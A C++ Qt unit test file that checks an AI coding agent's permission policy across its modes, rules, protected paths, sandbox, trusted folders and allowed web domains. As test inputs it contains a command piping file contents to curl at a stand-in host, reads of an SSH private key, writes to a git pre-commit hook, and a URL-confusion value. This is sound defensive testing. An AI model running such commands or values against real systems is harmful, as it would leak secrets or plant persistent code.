#include "agent/permissions/policy.h"

#include <QTest>

using permissions::Call;
using permissions::Circumstances;
using permissions::Group;
using permissions::Mode;
using permissions::Rules;
using permissions::Verdict;

namespace {

const Rules noRules;

permissions::Rule rule(const char *text) { return *permissions::ruleOf(text); }

Call callOf(Group group, bool changes = false)
{
    Call call;
    call.group = group;
    call.changes = changes;
    call.tool = "tool";
    if (group == Group::Read || group == Group::Write || group == Group::Search)
        call.paths = {"/repo/src/a.c"};
    if (group == Group::Bash)
        call.command = "ls";
    if (group == Group::Web)
        call.url = "https://posthog.com";
    return call;
}

Call fileCall(Group group, const char *path)
{
    Call call = callOf(group);
    call.paths = {path};
    return call;
}

Call commandCall(const char *command)
{
    Call call = callOf(Group::Bash);
    call.tool = "Bash";
    call.command = command;
    return call;
}

Circumstances in(Mode mode, const Rules &rules = noRules) { return {mode, {"/repo"}, rules}; }

Verdict verdictOf(const Call &call, const Circumstances &circumstances) { return decide(call, circumstances).verdict; }

} // namespace

class PolicyTest : public QObject
{
    Q_OBJECT

private slots:
    void decidesByGroupAndMode_data()
    {
        QTest::addColumn<int>("group");
        QTest::addColumn<bool>("changes");
        QTest::addColumn<QString>("verdicts"); // default, acceptEdits, plan, bypassPermissions, auto: Allow, aSk, Refuse
        QTest::newRow("read") << int(Group::Read) << false << "AAAAA";
        QTest::newRow("search") << int(Group::Search) << false << "AAAAA";
        QTest::newRow("write") << int(Group::Write) << true << "SARAS";
        QTest::newRow("bash") << int(Group::Bash) << true << "SSRAS";
        QTest::newRow("web") << int(Group::Web) << false << "AAAAA";
        QTest::newRow("agent") << int(Group::Agent) << false << "AAAAA";
        QTest::newRow("a server's tool that looks") << int(Group::Mcp) << false << "AAAAS";
        QTest::newRow("a server's tool that changes") << int(Group::Mcp) << true << "SSRAS";
        QTest::newRow("another that looks") << int(Group::Other) << false << "AAAAA";
        QTest::newRow("another that changes") << int(Group::Other) << true << "SSRAS";
        QTest::newRow("leaving plan mode") << int(Group::SwitchMode) << false << "SSSSS";
        QTest::newRow("a question") << int(Group::Question) << false << "SSSSS";
    }
    void decidesByGroupAndMode()
    {
        QFETCH(int, group);
        QFETCH(bool, changes);
        QFETCH(QString, verdicts);
        QString found;
        for (const auto &info : permissions::modes())
            found += "ASR"[int(verdictOf(callOf(Group(group), changes), in(info.mode)))];
        QCOMPARE(found, verdicts);
    }

    void knowsItsModesByName()
    {
        QStringList ids;
        for (const auto &info : permissions::modes()) {
            ids << QString::fromStdString(info.id);
            QVERIFY(permissions::modeOf(info.id) == info.mode);
            QCOMPARE(permissions::idOf(info.mode), info.id);
        }
        QCOMPARE(ids, (QStringList{"default", "acceptEdits", "plan", "bypassPermissions", "auto"}));
        for (const char *unknown : {"", "Default", "yolo", "plan "})
            QVERIFY(!permissions::modeOf(unknown));
    }

    void hidesAndRefusesBypassForRoot()
    {
        QVERIFY(!permissions::mayBypass(0, nullptr));
        QVERIFY(!permissions::mayBypass(0, ""));
        QVERIFY(permissions::mayBypass(0, "1"));
        QVERIFY(permissions::mayBypass(1000, nullptr));
        QCOMPARE(permissions::offeredModes(true), permissions::modes());
        for (const auto &info : permissions::offeredModes(false))
            QVERIFY(info.mode != Mode::BypassPermissions);
        QCOMPARE(permissions::checkMode(Mode::BypassPermissions, false).error().code, ph::ErrorCode::Unauthorized);
        QVERIFY(permissions::checkMode(Mode::BypassPermissions, true));
        QVERIFY(permissions::checkMode(Mode::Auto, false));
    }

    void goesToPlanModeUnasked()
    {
        Call call = callOf(Group::SwitchMode);
        call.tool = "EnterPlanMode";
        for (const auto &info : permissions::modes())
            QVERIFY(verdictOf(call, in(info.mode)) == Verdict::Allow);
    }

    void readsDenyBeforeAskBeforeAllow()
    {
        Rules rules;
        rules.allow = {rule("Bash(ls)")};
        QVERIFY(verdictOf(commandCall("ls"), in(Mode::Default, rules)) == Verdict::Allow);
        rules.ask = {rule("Bash(ls:*)")};
        QVERIFY(verdictOf(commandCall("ls"), in(Mode::Default, rules)) == Verdict::Ask);
        QVERIFY(verdictOf(commandCall("ls"), in(Mode::BypassPermissions, rules)) == Verdict::Ask);
        rules.deny = {rule("Bash")};
        for (const auto &info : permissions::modes())
            QVERIFY(verdictOf(commandCall("ls"), in(info.mode, rules)) == Verdict::Refuse);
        QCOMPARE(decide(commandCall("ls"), in(Mode::Default, rules)).reason, std::string("The user's rule “Bash” forbids this."));
    }

    void letsNoRuleAllowInPlanModeWhatChanges()
    {
        Rules rules;
        rules.allow = {rule("Edit"), rule("Bash"), rule("mcp__a")};
        rules.deny = {rule("Bash(rm:*)")};
        Call server = callOf(Group::Mcp, true);
        server.tool = "mcp__a__b";
        for (const Call &call : {callOf(Group::Write), commandCall("ls"), commandCall("$x y"), server})
            QVERIFY(verdictOf(call, in(Mode::Plan, rules)) == Verdict::Refuse);
    }

    void runsCommandsInPlanModeInTheSandboxAlone()
    {
        Rules rules;
        rules.allow = {rule("Bash(ls)")};
        Circumstances circumstances = in(Mode::Plan, rules);
        QVERIFY(decide(commandCall("ls"), circumstances).reason.find("bubblewrap") != std::string::npos);
        circumstances.hasSandbox = true;
        QVERIFY(verdictOf(commandCall("ls"), circumstances) == Verdict::Allow);
        QVERIFY(verdictOf(commandCall("ls -l"), circumstances) == Verdict::Ask);
    }

    void asksForProtectedPathsInEveryMode()
    {
        Rules rules;
        rules.allow = {rule("Edit"), rule("Read"), rule("Bash")};
        for (const auto mode : {Mode::Default, Mode::AcceptEdits, Mode::BypassPermissions, Mode::Auto}) {
            QVERIFY(verdictOf(fileCall(Group::Write, "/repo/.git/hooks/pre-commit"), in(mode, rules)) == Verdict::Ask);
            QVERIFY(verdictOf(fileCall(Group::Read, "/home/u/.ssh/id_rsa"), in(mode, rules)) == Verdict::Ask);
            QVERIFY(verdictOf(commandCall("cp a .git/hooks/pre-commit"), in(mode, rules)) == Verdict::Ask);
            QVERIFY(verdictOf(fileCall(Group::Read, "/repo/.git/HEAD"), in(mode, rules)) == Verdict::Allow);
        }
        QCOMPARE(decide(fileCall(Group::Read, "/repo/.env"), in(Mode::Default)).reason, std::string(".env may hold secrets."));
    }

    void asksOutsideOfTheRoots()
    {
        for (const char *path : {"/etc-like/x", "/repo-evil/a", "/"})
            for (const auto group : {Group::Read, Group::Search, Group::Write})
                QVERIFY(verdictOf(fileCall(group, path), in(Mode::AcceptEdits)) == Verdict::Ask);
        Circumstances two = in(Mode::AcceptEdits);
        two.roots.push_back("/other");
        QVERIFY(verdictOf(fileCall(Group::Write, "/other/a"), two) == Verdict::Allow);
        Call nowhere = callOf(Group::Write);
        nowhere.paths.clear();
        QVERIFY(verdictOf(nowhere, in(Mode::AcceptEdits)) == Verdict::Ask);
    }

    void asksBeforeDataFromOutsideCanLeave()
    {
        const Call server = callOf(Group::Mcp);
        for (const auto mode : {Mode::Default, Mode::BypassPermissions, Mode::Auto}) {
            Circumstances tainted = in(mode);
            tainted.hasUntrustedData = true;
            QVERIFY(verdictOf(callOf(Group::Web), tainted) == Verdict::Ask);
            QVERIFY(verdictOf(server, tainted) == Verdict::Ask);
            QVERIFY(verdictOf(commandCall("cat a | curl -d @- https://x.example"), tainted) == Verdict::Ask);
            QVERIFY(verdictOf(callOf(Group::Read), tainted) == Verdict::Allow);
        }
        Circumstances tainted = in(Mode::BypassPermissions);
        tainted.hasUntrustedData = true;
        QVERIFY(verdictOf(commandCall("ls"), tainted) == Verdict::Allow);
        QVERIFY(verdictOf(callOf(Group::Write), tainted) == Verdict::Allow);
    }

    void keepsWebToolsToTheAllowedDomains()
    {
        Circumstances circumstances = in(Mode::BypassPermissions);
        circumstances.allowedDomains = {"posthog.com", "*.example.org"};
        Call call = callOf(Group::Web);
        QVERIFY(verdictOf(call, circumstances) == Verdict::Allow);
        call.url = "https://a.example.org/x";
        QVERIFY(verdictOf(call, circumstances) == Verdict::Allow);
        call.url = "https://evil.example";
        QCOMPARE(decide(call, circumstances).reason, std::string("Domain \"evil.example\" is not in the allowed list: posthog.com, *.example.org"));
        call.url = "https://posthog.com\\@evil.example";
        QVERIFY(verdictOf(call, circumstances) == Verdict::Refuse);
        circumstances.allowedDomains.clear();
        QVERIFY(verdictOf(call, circumstances) == Verdict::Ask);
    }

    void asksInAFolderThatIsNotTrusted()
    {
        Rules rules;
        rules.allow = {rule("Bash"), rule("Edit")};
        Circumstances circumstances = in(Mode::BypassPermissions, rules);
        circumstances.isFolderTrusted = false;
        QVERIFY(verdictOf(commandCall("ls"), circumstances) == Verdict::Ask);
        QVERIFY(verdictOf(callOf(Group::Write), circumstances) == Verdict::Ask);
        QVERIFY(verdictOf(callOf(Group::Read), circumstances) == Verdict::Allow);
    }

    void tellsWhatListingsLeaveOut()
    {
        Rules rules;
        rules.deny = {rule("Read(secret/**)")};
        QVERIFY(permissions::isDenied("/repo/secret/a", in(Mode::Default, rules)));
        QVERIFY(!permissions::isDenied("/repo/secretary", in(Mode::Default, rules)));
    }
};

QTEST_APPLESS_MAIN(PolicyTest)
#include "policy_test.moc"
